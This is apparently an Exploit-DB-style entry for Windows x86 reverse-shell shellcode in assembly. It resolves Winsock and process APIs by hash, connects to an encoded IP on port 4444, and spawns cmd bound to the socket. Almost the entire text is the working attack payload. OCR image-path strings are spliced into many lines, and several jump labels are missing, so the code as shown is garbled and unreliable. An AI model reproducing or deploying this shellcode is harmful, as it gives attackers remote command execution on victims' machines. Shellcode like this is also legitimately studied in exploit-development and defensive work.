; Exploit Title: Windows x86 - hashed reverse shell Win7/10 (222 bytes)
; Date: 2019-11-30
; Author: bolonobolo
; Vendor Homepage: None
; Software Link: None
; Tested on: Windows x86
; Comments: reverse shell
; CVE: N/A

global _start

section .text

 ; this avoid the NULL bytes producted by calling functions directly
 mov ebp, findSymbolByHash
 mov edi, hashString

    xor ecx, ecx                ; zeroing register ECX
    mul ecx                     ; zeroing register EAX EDX
    mov eax, [fs:ecx + 0x030]   ; PEB loaded ineax
    mov eax, [eax + 0x00c]      ; LDR loaded in eax
    mov esi, [eax + 0x014]      ; InMemoryOrderModuleList loaded in esi
    lodsd                       ; program.exe address loaded in eax (1st module)
    xchg esi, eax
    lodsd                       ; ntdll.dll address loaded (2nd module)
    mov ebx, [eax + 0x10]       ; kernel32.dll address loaded in ebx (3rd module)mov eax, ebx
    ; EAX 76140000 kernel32.76140000
    ; ECX 00000000
    ; EDX 00000000
    ; EBX 76140000 kernel32.76140000
    ; ESP 0022FF8C
    ; EBP 0022FF94
    ; ESI 0054190C
    ; EDI 00000000
    ; EIP 00401005 reverse_.00401005

    push 0xec0e4e8e          ; LoadLibraryA hash
    push eax
    call ebp                 ; call findSymbolByHash
    ; EAX 76192864 kernel32.LoadLibraryA
    ; ECX 00000000
    ; EDX 00000000
    ; EBX 76140000 kernel32.76140000
    ; ESP 0022FF8C
    ; EBP 0022FF94
    ; ESI 0054190C
    ; EDI 00000000
    ; EIP 00401010 reverse_.00401010push 0x61613233                 ; 23
    sub word [esp + 0x2], 0x6161    ; sub aa from aa23_2sw
    push 0x5f327377                 ; _2sw
    push esp                        ; pointer to the string
    call eax                        ; call Loadlibrary and find ws2_32.dll
    mov edx, eax                    ; save winsock handle for future puproses

    ; EAX 75FE0000 OFFSET ws2_32.#332
    ; ECX 77BE316F ntdll.77BE316F
    ; EDX 75FE0000 OFFSET ws2_32.#332
    ; EBX 760C0000 kernel32.760C0000
    ; ESP 0022FF84 ASCII "ws2_32"
    ; EBP 004010F7reverse_.004010F7
    ; ESI 0054190C
    ; EDI 00401140 reverse_.00401140
    ; EIP 00401040 reverse_.00401040

    push 0x3bfcedcb                 ; WSAStartup hash
    push edx                        ; push ws2_32.dll handler
    call ebp                        ; find WSAStartup in ws2_32.dll handler
    add sp, 8
    push eax
    lea esi, [esp]mov [esi+0x4], eax

    push 0xadf509d9                 ; WSASocketA hash
    push edx                        ; push ws2_32.dll handler
    call ebp                        ; find WSASocketA in ws2_32.dll handler
    add sp, 8
    mov [esi+0x8], eax

    push 0x60aaf9ec                 ; connect hash
    push edx                        ; push ws2_32.dll handler
    call ebp                        ; find connect in ws2_32.dll handler
    add sp, 8
    mov [esi+0xc], eax

    push 0x16b3fe72                 ; CreateProcessA hash
    push ebx                        ; push kernel32.dll handler
    callebp                        ; find CreateProcessA in kernel32.dll handler
    add sp, 8
    mov [esi+0x10], eax

    push 0x73e2d87e          ; ExitProcess hash
    push ebx                 ; kernel32 dll location
    call ebp
    add sp, 8
    mov [esi+0x14], eax
    xor edx, edx
    mov dx, 0x190          ; EAX = sizeof( struct WSAData )
    sub esp, edx           ; alloc some space for the WSAData structure
    push esp               ; push a pointer to this stuct
    push edx               ; push the wVersionRequested parameter
    call dword [esi+0x4]   ; call WSAStartup(MAKEWORD(2, 2), wsadata_pointer)

    xor edx, edx                    ; clear edx
    push edx;                       ; dwFlags=NULL
    push edx;                       ; g=NULL
    push edx;                       ; lpProtocolInfo=NULL
    mov dl, 0x6                     ; protocol=6
    push edxsub dl, 0x5                     ; edx==1
    push edx                        ; type=1
    inc edx                         ; af=2
    push edx
    call dword [esi+0x8]            ; call WSASocketA
    push eax                        ; save eax in edi
    pop edi                         ;

    ;set up sockaddr_in
    mov edx, 0x02010180             ;the IP plus 0x11111111 so we avoid NULLs (IP=
    sub edx, 0x01010101             ;subtract from edx to obtain the real IPpush edx                        ;push sin_addr
    push word 0x5c11                ;0x115c = (port 4444)
    xor edx, edx
    mov dl, 2
    push dx
    mov edx, esp
    push byte 0x10
    push edx
    push edi
    call dword [esi+0xc]

    push 0x61646d63                 ; push admc
    sub word [esp + 0x3], 0x61      ; sub a to admc = dmc
    mov ebp, esp                    ; save a pointer to the command line
    push edi                        ; our socket becomes the shells hStdError
    push edi                        ; our socket becomes the shells hStdOutput
    push edi                        ; our socket becomes the shells hStdInput
    xor edi, edi                    ; Clear edi for all the NULL's we need to push
    push byte 0x12                  ; We want to place (18 * 4) = 72 null bytes onto the stack
    pop ecx                         ; Set ECX for the loop

    push edi                        ; push a null dword
    loop push_loop                  ; keep looping untill we have pushed enough nulls
    mov word [esp + 0x3C], 0x0101   ; Set the STARTUPINFO Structure's dwFlags to STARTF_USESTDHANDLES | STARTF_USESHOWWINDOW
    mov byte [esp + 0x10], 0x44
    lea ecx, [esp + 0x10]  ; Set EAX as a pointer to our STARTUPINFO Structure

    ;perform the call to CreateProcessA
    push esp               ; Push the pointer to the PROCESS_INFORMATION Structure
    push ecx               ; Push the pointer to the STARTUPINFO Structure
    push edi               ; The lpCurrentDirectory is NULL so the new process will have the same current directory as its parent
    push edi               ; The lpEnvironment is NULL so the new process will have the same enviroment as its parent
    pushedi               ; We dont specify any dwCreationFlags
    inc edi                ; Increment edi to be one
    push edi               ; Set bInheritHandles to TRUE in order to inheritable all possible handle from the parent
    dec edi                ; Decrement edi back down to zero
    push edi               ; Set lpThreadAttributes to NULL
    push edi               ; Set lpProcessAttributes to NULL
    push ebp               ; Set the lpCommandLine to point to "cmd",0
    push edi               ; Set lpApplicationName to NULL as we are using the command line param instead
    call dword [esi+0x10]xor  edx, edx
    push edx                ; uExitCode
    call dword [esi+0x14]   ; call ExitProcess(0)

; Functions called                                         ;

    mov ebp, [esp + 0x24]       ; load 1st arg: dllBase
    mov eax, [ebp + 0x3c]       ; get offset to PE signature
    ; load edx w/ DataDirectories array: assumes PE32
    mov edx, [ebp + eax + 4+20+96]
    add edx, ebp                ; edx:= addr IMAGE_EXPORT_DIRECTORY
    mov ecx, [edx + 0x18]       ; ecx:= NumberOfNames
    mov ebx, [edx + 0x20]       ; ebx:= RVA of AddressOfNames
    add ebx, ebp                ; rva->va
    dec ecx                     ; dec loop counter

    ; esi:= next name, uses ecx*4 because each pointer is 4 bytes
    mov esi, [ebx+ecx*4]
    add esi, ebp                ; rva->va
    push esi
    call edi              ; hash the current string
    add sp, 4

    ; check hash result against arg #2 on stack: symHash
    cmp eax, [esp + 0x28]
    jnz search_loop

    ; at this point we found the string in AddressOfNames
    movebx, [edx+0x24]         ; ebx:= ordinal table rva
    add ebx, ebp                ; rva->va

    ; turn cx into ordinal from name index.
    ; use ecx*2: each value is 2 bytes

    mov cx, [ebx+ecx*2]
    mov ebx, [edx+0x1c]         ; ebx:= RVA of AddressOfFunctions
    add ebx, ebp                ; rva->va

    ; eax:= Export function rva. Use ecx*4: each value is 4 bytes
    mov eax, [ebx+ecx*4]
    add eax, ebp                ; rva->va
    mov [esp + 0x1c], eax       ; overwrite eax saved on stack

    push esi
    push edimov esi, dword [esp+0x0c]   ; load function argument in esi
    xor edi, edi
    xor eax, eax
    lodsb                       ; load next byte of input string
    cmp al, ah
    jehash_done               ; check if at end of symbol
    ror edi, 0x0d               ; rotate right 13 (0x0d)
    add edi, eax
    jmp hash_iter
    mov eax, edi
    pop edi
    pop esi